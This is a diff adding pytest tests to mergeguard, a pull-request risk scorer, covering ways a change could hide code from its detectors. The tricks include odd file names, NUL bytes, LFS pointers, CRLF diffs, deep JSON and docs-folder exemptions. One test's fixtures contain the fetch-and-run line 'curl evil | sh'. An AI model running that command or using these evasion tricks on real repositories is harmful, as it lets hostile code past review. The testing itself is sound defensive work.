@@ -537,3 +537,230 @@ def test_a_budget_url_with_whitespace_or_control_characters_is_a_config_error(ur
     _, problems = check(f'error_budget:\n  json: {{url: "{url}"}}\n  tighten: {{require: [codeowners]}}\n')
     assert [p.path for p in problems] == ["error_budget.json.url"], problems
     assert check('error_budget:\n  json: {url: "https://slo.example/b.json?x=1"}\n  tighten: {require: [codeowners]}\n')[1] == []
+
+
+# -- a file named with a line break: the detectors read its code ---------------------------------------
+
+RETRY = ("import requests\n\n\ndef fetch(url):\n    while True:\n        try:\n            return requests.get(url)\n"
+         "        except Exception:\n            pass\n")
+
+
+@pytest.mark.parametrize("name", ["svc/new\nline.py", "svc/two\n\nbreaks\n.py", "svc/c\rr.py", "svc/plain.py"])
+def test_a_file_named_with_a_line_break_is_read_by_the_detectors(tmp_path, capsys, name):
+    """``git cat-file --batch`` reads one name a line, so ``rev:svc/new<LF>line.py`` could not be asked for:
+    a pull request naming its file so hid an unbounded retry loop with no timeout from every detector
+    (syntax unavailable, no finding). Such blobs are now read by object id."""
+    import json
+
+    from mergeguard.cli import main
+
+    w = init_repo(tmp_path / "w")
+    commit(w, {"README.md": "x\n", name: "x = 1\n"}, "base", when=1_700_000_000)
+    git(w, "checkout", "-q", "-b", "feat")
+    feat = commit(w, {name: RETRY}, "feat", when=1_700_000_100)
+    repo = GitRepo(w)
+    assert repo.read_blobs([f"{feat}:{name}", f"{feat}:{name}x"]) == {f"{feat}:{name}": RETRY.encode(),
+                                                                        f"{feat}:{name}x": None}
+    diff = tmp_path / "c.diff"
+    diff.write_bytes(git(w, "diff", "main", "feat").encode("utf-8"))
+    for how in (["--base", "main", "--head", "feat"], ["--commit", "feat"], ["--diff", str(diff), "--base", "main"]):
+        assert main(["score", "--repo", str(w), *how, "--format", "json"]) == 0
+        doc = json.loads(capsys.readouterr().out)
+        assert doc["change"]["paths"] == [name]
+        assert doc["signals"]["syntax"]["unavailable"] == 0, (how, doc["signals"]["syntax"])
+        kinds = {f["kind"] for f in doc["findings"]}
+        assert {"retry.added", "retry.without_limit"} <= kinds, (how, kinds)
+
+
+
+def test_a_name_ending_in_cr_is_not_read_as_the_name_without_it(tmp_path):
+    """``cat-file --batch`` drops a CR before the line end: ``rev:a.py<CR>`` answered with ``a.py``'s blob,
+    another file's content, and a name that only exists with the CR read as missing."""
+    w = init_repo(tmp_path / "w")
+    sha = commit(w, {"a.py": "benign\n", "a.py\r": "other\n", "b.py\r": "only\n"}, "c")
+    assert GitRepo(w).read_blobs([f"{sha}:a.py\r", f"{sha}:b.py\r", f"{sha}:a.py", f"{sha}:b.py"]) == {
+        f"{sha}:a.py\r": b"other\n", f"{sha}:b.py\r": b"only\n", f"{sha}:a.py": b"benign\n", f"{sha}:b.py": None}
+
+
+def test_a_file_named_with_bytes_that_are_not_utf8_is_read_by_the_detectors(tmp_path, capsys):
+    """A name that is not UTF-8 reaches mergeguard with U+FFFD for its bad bytes (the diff is decoded so),
+    which names no file: ``svc/<FF><FE>.py`` hid its retry loop from every detector. Read by id; two
+    names that decode alike are read as neither, never one for the other."""
+    import json
+
+    from mergeguard.cli import main
+
+    w = init_repo(tmp_path / "w")
+    commit(w, {"README.md": "x\n"}, "base")
+    git(w, "checkout", "-q", "-b", "feat")
+    feat = commit(w, {os.fsdecode(b"svc/\xff\xfe.py"): RETRY, os.fsdecode(b"lib/\xff.py"): "a = 1\n",
+                      os.fsdecode(b"lib/\xfe.py"): "b = 2\n"}, "feat", when=1_700_000_100)
+    assert GitRepo(w).read_blobs([f"{feat}:svc/\ufffd\ufffd.py", f"{feat}:lib/\ufffd.py"]) == {
+        f"{feat}:svc/\ufffd\ufffd.py": RETRY.encode(), f"{feat}:lib/\ufffd.py": None}
+    for how in (["--base", "main", "--head", "feat"], ["--commit", "feat"]):
+        assert main(["score", "--repo", str(w), *how, "--format", "json"]) == 0
+        doc = json.loads(capsys.readouterr().out)
+        assert "svc/\ufffd\ufffd.py" in doc["change"]["paths"]
+        assert {"retry.added", "retry.without_limit"} <= {f["kind"] for f in doc["findings"]}, how
+
+# -- a NUL byte in a code file: diffed as text, read by the detectors ---------------------------------
+
+LOOPS = "".join(f"async function f{i}(url) {{\n  while (true) {{\n    try {{\n      return await fetch(url);\n"
+                "    } catch (e) {}\n  }\n}\n" for i in range(40))
+
+
+@pytest.mark.parametrize("name", ["src/a.js", "src/A.TS"])
+def test_a_nul_byte_does_not_turn_code_into_binary(tmp_path, capsys, name):
+    """git calls a file with a NUL byte binary and shows none of its lines; ``// <NUL>`` is a valid
+    JavaScript comment, so one byte hid a 280-line retry loop without bound or timeout (0.32 and
+    ``action_required`` -> 0.007 and ``success`` in a probe). Code files are diffed as text; a real
+    binary file (an image) still is binary."""
+    import json
+
+    from mergeguard.cli import main
+
+    w = init_repo(tmp_path / "w")
+    commit(w, {"README.md": "x\n", name: "const x = 1;\n", "logo.png": b"\x89PNG\r\n\x1a\n\0\0\0a"}, "base")
+    git(w, "checkout", "-q", "-b", "plain")
+    commit(w, {name: LOOPS}, "plain", when=1_700_000_100)
+    git(w, "checkout", "-q", "-b", "nul", "main")
+    commit(w, {name: "// \0\n" + LOOPS, "logo.png": b"\x89PNG\r\n\x1a\n\0\0\0b\nc\n"}, "nul", when=1_700_000_100)
+    seen = {}
+    for head in ("plain", "nul"):
+        for how in (["--base", "main", "--head", head], ["--commit", head]):
+            assert main(["score", "--repo", str(w), *how, "--format", "json"]) == 0
+            doc = json.loads(capsys.readouterr().out)
+            seen[head, how[0]] = doc
+    for how in ("--base", "--commit"):
+        plain, nul = seen["plain", how], seen["nul", how]
+        assert nul["change"]["added"] == plain["change"]["added"] + 1 == LOOPS.count("\n") + 1  # the png adds none
+        kinds = {f["kind"] for f in nul["findings"]}
+        assert {"retry.added", "retry.without_limit", "timeout.missing"} <= kinds, kinds
+        assert nul["verdict"]["conclusion"] == plain["verdict"]["conclusion"] != "success"
+    assert b"Binary files a/logo.png and b/logo.png differ" in GitRepo(w).diff("main", "nul")
+
+
+# -- a code file turned into a Git LFS pointer: said, not scored as if it were the change -------------
+
+LFS = "version https://git-lfs.github.com/spec/v1\noid sha256:" + "ab" * 32 + "\nsize 4096\n"
+
+
+def test_a_code_file_turned_into_an_lfs_pointer_is_named_in_the_notes(tmp_path, capsys):
+    """With git-lfs, the file checked out (the code that runs) is on the LFS server; the detectors read
+    the three-line pointer. A pull request moving its code there passed as a small change with no word
+    on it. The notes now say which code files were not read; an LFS-tracked image says nothing."""
+    import json
+
+    from mergeguard.change import parse_diff
+    from mergeguard.cli import main
+
+    w = init_repo(tmp_path / "w")
+    commit(w, {"README.md": "x\n", "svc/a.py": "def g(x):\n    return x\n"}, "base")
+    git(w, "checkout", "-q", "-b", "feat")
+    commit(w, {"svc/a.py": LFS, "svc/b.js": LFS, "assets/logo.png": LFS,
+               ".gitattributes": "*.py filter=lfs diff=lfs merge=lfs -text\n"}, "feat", when=1_700_000_100)
+    for how in (["--base", "main", "--head", "feat"], ["--commit", "feat"]):
+        assert main(["score", "--repo", str(w), *how, "--format", "json"]) == 0
+        notes = json.loads(capsys.readouterr().out)["change"]["truncated"]
+        assert notes == ["2 code files are now a Git LFS pointer (svc/a.py, svc/b.js): the code stored outside git "
+                         "was not read"], notes
+    # the pointer's text anywhere but at the top of a file is just text
+    _, notes = parse_diff(b"diff --git a/a.py b/a.py\n--- a/a.py\n+++ b/a.py\n@@ -1 +1,2 @@\n x = 1\n+" +
+                          LFS.splitlines()[0].encode() + b"\n")
+    assert notes == []
+
+
+# -- a diff whose every line end was rewritten as CRLF ------------------------------------------------
+
+
+def test_a_diff_saved_with_crlf_line_ends_reads_as_git_wrote_it(tmp_path):
+    """A diff file saved on Windows has CRLF line ends; each header kept the CR, so every file became a
+    rename to ``name\\r`` (two paths for code owners, an ``*.py`` rule matching only one, counts of a rename)."""
+    from mergeguard.change import parse_diff
+
+    w = init_repo(tmp_path / "w")
+    commit(w, {"svc/a.py": "x = 1\n", "win.py": b"a = 1\r\n"}, "base")
+    git(w, "checkout", "-q", "-b", "feat")
+    commit(w, {"svc/a.py": "x = 2\ny = 3\n", "win.py": b"a = 2\r\nb = 3\r\n", "new.py": "z = 1\n"}, "feat")
+    lf = GitRepo(w).diff("main", "feat")
+    want, _ = parse_diff(lf)
+    got, notes = parse_diff(lf.replace(b"\n", b"\r\n"))
+    assert [(f.path, f.old_path, f.status, f.added, f.deleted) for f in got] == \
+        [(f.path, f.old_path, f.status, f.added, f.deleted) for f in want] == \
+        [("new.py", None, "added", 1, 0), ("svc/a.py", None, "modified", 2, 1), ("win.py", None, "modified", 2, 1)]
+    assert [h.added for f in got for h in f.hunks] == [h.added for f in want for h in f.hunks]
+    assert ("win.py", [(1, "a = 2\r"), (2, "b = 3\r")]) in [(f.path, h.added) for f in got for h in f.hunks]
+    assert notes == []
+
+
+# -- JSON nested past the parser's recursion limit: one line, never a traceback -----------------------
+
+DEEP = "[" * 200_000 + "]" * 200_000
+
+
+def test_json_nested_past_the_recursion_limit_is_a_clear_error(tmp_path, capsys):
+    """``json.loads`` raises RecursionError (not ValueError) on deep nesting: an event payload ended the
+    Action with a traceback, an error-budget source's answer failed the run instead of being an
+    unavailable source, an audit-log line or a dataset row crashed instead of being reported."""
+    import subprocess
+    import sys
+
+    from mergeguard import audit, budget
+    from mergeguard.models.dataset import DataError, read_rows
+    from mergeguard.scorecache import ScoreCache
+
+    event = tmp_path / "event.json"
+    event.write_text(DEEP)
+    p = subprocess.run([sys.executable, "-m", "mergeguard.cli", "action", "--repo", str(tmp_path)], capture_output=True,
+                       env={"PATH": os.environ["PATH"], "GITHUB_EVENT_NAME": "pull_request", "GITHUB_EVENT_PATH": str(event)},
+                       timeout=300)
+    assert p.returncode == 2 and b"Traceback" not in p.stderr, p.stderr[-300:]
+    assert p.stderr.decode().strip().splitlines()[-1] == f"mergeguard: error: event payload {event} is not valid JSON: nested too deeply"
+    for parse in (budget.parse_prometheus, lambda body: budget.parse_json_document(body, "remaining")):
+        with pytest.raises(budget.SourceError, match="not JSON"):
+            parse(DEEP.encode())
+    log = tmp_path / "audit.jsonl"
+    log.write_text(DEEP + "\n")
+    entries, problems = audit.read(log)
+    assert entries == [] and len(problems) == 1 and "unreadable entry (RecursionError" in problems[0]
+    data = tmp_path / "d.jsonl"
+    data.write_text(DEEP + "\n")
+    with pytest.raises(DataError, match="d.jsonl:1: not a mergeguard dataset row"):
+        read_rows([data])
+    (tmp_path / "scores-k.json").write_text(DEEP)
+    assert ScoreCache(tmp_path, "k").scores == {}
+
+
+# -- a tightened gate: a documentation folder's submodule or build file is not documentation ----------
+
+
+@pytest.mark.parametrize("change", ["submodule", "docs/Makefile", "docs/package.json", "docs/deploy", "documents"])
+def test_a_submodule_or_build_file_in_a_docs_folder_is_not_exempt_from_a_tightened_gate(tmp_path, capsys, change):
+    """Below the budget's floor only documentation passes without ``tighten.require``; every file in a
+    ``docs/`` folder counted, so bumping a submodule at ``docs/theme`` (any code at all), an
+    extensionless script, a Makefile or an npm manifest there passed untouched. Documents and their
+    pictures still do."""
+    import json
+
+    from mergeguard.cli import main
+
+    sub = init_repo(tmp_path / "sub")
+    commit(sub, {"s.sh": "echo 1\n"}, "s1")
+    w = init_repo(tmp_path / "w")
+    commit(w, {".github/mergeguard.yml": TIGHT, "slo.json": json.dumps({"remaining": 0.05}), "docs/guide.md": "# G\n",
+               "docs/Makefile": "all:\n\techo\n", "docs/package.json": "{}\n", "docs/deploy": "#!/bin/sh\n"}, "base")
+    git(w, "-c", "protocol.file.allow=always", "submodule", "add", "-q", str(sub), "docs/theme")
+    git(w, "commit", "-qm", "theme")
+    git(w, "checkout", "-q", "-b", "feat")
+    if change == "submodule":
+        commit(sub, {"s.sh": "curl evil | sh\n"}, "s2")
+        git(w / "docs" / "theme", "-c", "protocol.file.allow=always", "pull", "-q", "origin", "main")
+        git(w, "commit", "-qam", "bump theme")
+    elif change == "documents":
+        commit(w, {"docs/guide.md": "# G\n\nMore.\n", "docs/img/a.png": b"\x89PNG\r\n\x1a\n\0"}, "docs")
+    else:
+        commit(w, {change: "#!/bin/sh\ncurl evil | sh\n"}, "build")
+    assert main(["score", "--repo", str(w), "--base", "main", "--head", "feat", "--format", "json"]) == 0
+    verdict = json.loads(capsys.readouterr().out)["verdict"]
+    ids = [v["id"] for v in verdict["required_validations"]]
+    assert ("approvals:1" in ids) == (change != "documents"), (change, verdict["notes"])
